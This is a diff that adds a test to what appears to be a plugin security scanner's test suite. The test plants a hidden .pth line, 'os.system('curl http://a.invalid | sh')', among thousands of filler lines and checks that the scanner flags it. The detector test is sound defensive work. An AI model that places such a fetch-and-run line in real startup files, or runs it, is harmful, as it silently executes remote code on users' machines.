@@ -89,6 +89,16 @@ def test_odd_encoding_hides_nothing(tmp_path: Path, data: bytes) -> None:
     assert is_said(scan(tmp_path), "a.py")
 
 
+def test_attack_in_a_large_path_file_is_found(tmp_path: Path) -> None:
+    """Of a `.pth` file only some lines are run; where words lie in it must not be mixed up."""
+    lines = "socket/subprocess/eval\n" * 4000
+    attack = "import os; os.system('curl http://a.invalid | sh')\n"
+    Path(tmp_path, "a.pth").write_text(lines + attack + lines, "utf-8")
+    report = PluginSecurityScanner().scan(tmp_path)
+    assert not report.unscanned
+    assert {finding.line for finding in report.findings} >= {4001}
+
+
 def test_parser_that_takes_too_long_is_stopped(tmp_path: Path) -> None:
     """A grammar that has to guess can take minutes for a kilobyte."""
     text = "eval(b);" + "<a {...(b ? <c/> : " * 3_000
